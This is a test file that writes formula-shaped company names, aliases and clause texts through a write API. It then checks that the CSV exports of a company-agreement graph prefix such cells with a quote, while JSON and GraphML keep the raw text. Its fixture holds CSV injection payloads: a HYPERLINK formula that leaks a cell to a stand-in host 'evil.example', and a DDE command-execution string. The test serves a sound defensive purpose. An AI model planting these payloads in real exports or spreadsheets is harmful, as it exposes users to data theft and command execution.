import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadShippedData } from '../seed/load.js'
import { createServer } from '../src/yoga.js'
import { csvRecords, parseCsv } from './helpers/exports.js'
import { startWriteApi, type WriteApi } from './helpers/write-api.js'

// CSV formula injection, as an attacker with a write key made it: a company named like a formula,
// aliases and clause texts that spreadsheets would run, written through the API and downloaded as
// CSV. Every text cell (and every item of a "; " list) that a spreadsheet would take for a formula
// starts with a single quote; numbers the exporter writes stay numbers; GraphML and JSON keep the
// text as stored.

const FORMULA_START = /^[=+\-@\t\r]/

let api: WriteApi
let key: string
const yoga = () => createServer({ graphiql: false })
const download = async (path: string) => {
  const response = await yoga().fetch(`http://yoga${path}`)
  expect(response.status).toBe(200)
  return response.text()
}

const attacker = {
  slug: 'formula-co',
  name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  aliases: ['@SUM(1+1)', '-2+3', 'Formula Co', "+cmd|' /C calc'!A0"],
  description: '=1+1 is what this company says it is',
  kinds: ['AI_LAB'],
}

beforeAll(async () => {
  api = await startWriteApi(loadShippedData)
  key = await api.key(['WRITE'])
  const company = await api.query(
    `mutation($input: CreateCompanyInput!) { createCompany(input: $input) { __typename ... on CreateCompanyPayload { company { slug } } } }`,
    { input: attacker },
    key,
  )
  expect(company.data?.createCompany).toEqual({ __typename: 'CreateCompanyPayload', company: { slug: attacker.slug } })
  const source = await api.prisma.source.findFirstOrThrow({ select: { url: true }, orderBy: { url: 'asc' } })
  const citations = [{ url: source.url, basis: 'PRESS_REPORT' }]
  const agreement = await api.query(
    `mutation($input: CreateAgreementInput!) { createAgreement(input: $input) { __typename ... on ValidationError { issues { path message } } } }`,
    {
      input: {
        slug: 'formula-co-openai',
        title: '-Deal of the formula company',
        parties: [
          { company: attacker.slug, role: 'LICENSOR' },
          { company: 'openai', role: 'LICENSEE' },
        ],
        announcedOn: '2026-02',
        citations,
        clauses: [
          {
            kind: 'LICENSE_GRANT',
            summary: '@SUM(A1:A9) licence to everything',
            grantor: attacker.slug,
            grantee: 'openai',
            percentage: 12.5,
            condition: '+1 if the cell is opened',
            citations,
          },
        ],
      },
    },
    key,
  )
  expect(agreement.data?.createAgreement).toEqual({ __typename: 'CreateAgreementPayload' })
}, 60_000)
afterAll(async () => {
  await api?.close()
})

const LIST_COLUMNS = new Set(['kinds', 'aliases'])

/** What a spreadsheet would run: a cell, or an item of a "; " list, starting like a formula. */
function formulaCells(text: string): string[] {
  const header = parseCsv(text)[0]!
  return csvRecords(text)
    .flatMap((record) =>
      header.flatMap((column) => (LIST_COLUMNS.has(column) ? [record[column]!, ...record[column]!.split('; ')] : [record[column]!])),
    )
    .filter((part) => FORMULA_START.test(part))
}

describe('CSV formula injection', () => {
  it('nodes.csv: a name, aliases and a description that start like formulas get a leading quote', async () => {
    const text = await download('/export/nodes.csv')
    expect(formulaCells(text)).toEqual([])
    const company = csvRecords(text).find((r) => r.id === `company:${attacker.slug}`)!
    expect(company.label).toBe(`'${attacker.name}`)
    expect(company.aliases).toBe(["'@SUM(1+1)", "'-2+3", 'Formula Co', "'+cmd|' /C calc'!A0"].join('; '))
    expect(company.description).toBe(`'${attacker.description}`)
    expect(company.kinds).toBe('AI_LAB')
  })

  it('edges.csv: clause texts and the agreement title too; numbers stay numbers', async () => {
    const text = await download('/export/edges.csv?asOf=2026-06-01')
    expect(formulaCells(text)).toEqual([])
    const clause = csvRecords(text).find((r) => r.id === 'clause:formula-co-openai.1')!
    expect(clause).toMatchObject({
      summary: "'@SUM(A1:A9) licence to everything",
      condition: "'+1 if the cell is opened",
      agreementTitle: "'-Deal of the formula company",
      percentage: '12.5',
      source: `company:${attacker.slug}`,
    })
  })

  it('GraphML and JSON keep the text as stored (the quote is for spreadsheets only)', async () => {
    const json = JSON.parse(await download('/export/graph.json')) as { companies: { slug: string; name: string; aliases: string[] }[] }
    expect(json.companies.find((c) => c.slug === attacker.slug)).toMatchObject({ name: attacker.name, aliases: attacker.aliases })
    const graphml = await download('/export/graph.graphml')
    expect(graphml).toContain('<data key="n_label">=HYPERLINK(')
  })
})
